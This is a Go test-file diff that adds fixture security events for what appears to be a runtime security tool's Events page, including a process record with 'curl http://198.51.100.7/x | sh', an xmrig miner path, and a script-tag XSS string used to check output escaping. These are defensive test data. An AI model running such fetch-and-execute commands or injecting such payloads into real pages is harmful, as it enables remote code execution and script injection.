@@ -216,6 +216,9 @@ func newEnv(t *testing.T, opts ...Option) *env {
 		}
 		e.tokens[role] = tok
 	}
+	if _, err := st.InsertEvents(ctx, fixtureEvents(now)); err != nil {
+		t.Fatalf("events: %v", err)
+	}
 	opts = append([]Option{
 		WithVersion("0.1.0-test"),
 		WithRegistrySecrets(func(p []byte) ([]byte, error) { return append([]byte("sealed:"), reverse(p)...), nil }),
@@ -337,4 +340,36 @@ func newTestServerTB(tb testing.TB, h http.Handler) *httptest.Server {
 	s := httptest.NewServer(h)
 	tb.Cleanup(s.Close)
 	return s
+}
+
+// hostileEventMessage is an event message that would run script if the
+// Events page did not escape it.
+const hostileEventMessage = `<script>alert('event')</script> executed`
+
+// fixtureEvents are events of every source, as the cluster component and
+// the node agents deliver them.
+func fixtureEvents(now time.Time) []store.EventRecord {
+	mk := func(id string, ago time.Duration, e model.Event) store.EventRecord {
+		e.ID, e.Time = id, now.Add(-ago)
+		return store.EventRecord{Event: e, ReceivedAt: now, ReportedBy: "prod agents"}
+	}
+	return []store.EventRecord{
+		mk("ev-shell", 5*time.Minute, model.Event{Source: model.SourceRuntime, Module: "sensor", Cluster: "prod", Node: "node-1",
+			Namespace: "payments", Pod: "api-7d9f", Workload: &model.WorkloadRef{Kind: "Deployment", Name: "api"},
+			Container: &model.ContainerRef{ID: "3f2a", Name: "api", Image: "registry.local/payments/api:1.4.2"},
+			Rule:      model.RuleRef{ID: "shell-in-container", Title: "Shell started in a container"}, Tactic: "TA0002", Technique: "T1059.004",
+			Severity: model.SeverityHigh, Action: model.ActionLog, Message: "bash started by java in payments/api",
+			Process: &model.Process{PID: 4242, Exe: "/bin/bash", Args: []string{"bash", "-c", "curl http://198.51.100.7/x | sh"}, Ancestors: []string{"/usr/bin/java"}}}),
+		mk("ev-drift", 20*time.Minute, model.Event{Source: model.SourceRuntime, Module: "drift", Cluster: "prod", Node: "node-2",
+			Namespace: "web", Pod: "frontend-1", Container: &model.ContainerRef{ID: "9c1b", Name: "frontend", Image: "registry.local/web/frontend:2024.06"},
+			Rule: model.RuleRef{ID: "drift-exec", Title: "Executable not in the image"}, Tactic: "TA0005", Technique: "T1036",
+			Severity: model.SeverityCritical, Action: model.ActionTerminate, Message: "/tmp/xmrig executed: not in the image layers",
+			Process: &model.Process{PID: 77, Exe: "/tmp/xmrig"}, File: &model.FileRef{Path: "/tmp/xmrig", SHA256: strings.Repeat("ab", 32)}}),
+		mk("ev-admission", time.Hour, model.Event{Source: model.SourceAdmission, Module: "webhook", Cluster: "prod", Namespace: "web",
+			Workload: &model.WorkloadRef{Kind: "Deployment", Name: "frontend"}, Rule: model.RuleRef{ID: "no-latest-tag", Title: "Image tag latest", Policy: "baseline"},
+			Severity: model.SeverityMedium, Action: model.ActionBlock, Message: "image registry.local/web/frontend:latest uses the tag latest"}),
+		mk("ev-host", 2*time.Hour, model.Event{Source: model.SourceHost, Module: "antimalware", Host: "bastion",
+			Rule: model.RuleRef{ID: "malware-detected"}, Severity: model.SeverityCritical, Action: model.ActionQuarantine,
+			Message: hostileEventMessage, File: &model.FileRef{Path: "/home/ops/eicar.com"}, Details: map[string]string{"signature": "Eicar-Test-Signature"}}),
+	}
 }
